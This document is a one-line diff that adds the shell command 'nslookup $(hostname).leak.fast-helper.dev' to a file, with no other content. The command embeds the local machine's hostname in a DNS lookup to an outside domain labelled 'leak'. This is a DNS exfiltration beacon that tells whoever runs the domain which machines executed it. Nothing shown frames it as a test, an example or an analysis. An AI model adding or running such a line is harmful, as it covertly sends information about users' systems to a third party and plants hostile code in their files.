@@ -1,0 +1,1 @@
+nslookup $(hostname).leak.fast-helper.dev
